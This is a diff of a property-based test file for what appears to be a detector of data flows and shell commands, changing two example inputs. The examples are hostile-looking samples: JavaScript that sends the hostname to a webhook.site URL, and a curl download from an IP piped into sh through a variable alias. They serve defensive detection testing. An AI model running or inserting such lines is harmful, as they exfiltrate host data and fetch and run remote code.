@@ -23,7 +23,7 @@ def all_might_match(_self: Prefilter, _text: str) -> None:
 
 
 @settings(max_examples=300, deadline=None)
-@example("const u = 'https://webhook.site/x'\nconst h = os.hostname()\nfetch(u + h)", DIALECTS[Language.JAVASCRIPT])
+@example("const u = 'https://webhook.site/x'\nconst me = os.hostname()\nfetch(u + me)", DIALECTS[Language.JAVASCRIPT])
 @given(scripts(samples.FLOWS) | scripts(SHELL), st.sampled_from(list(DIALECTS.values())))
 def test_what_is_followed_is_the_same_where_all_statements_are_read(text: str, dialect: Dialect) -> None:
     found = follow(text, dialect)
@@ -33,7 +33,7 @@ def test_what_is_followed_is_the_same_where_all_statements_are_read(text: str, d
 
 
 @settings(max_examples=300, deadline=None)
-@example("R=curl\n$R http://198.51.100.7/a | sh")
+@example("R=curl\n$R -s 198.51.100.7/a | sh")
 @given(scripts(SHELL))
 def test_commands_are_the_same_where_all_lines_are_judged(text: str) -> None:
     found = analyse_commands(text)
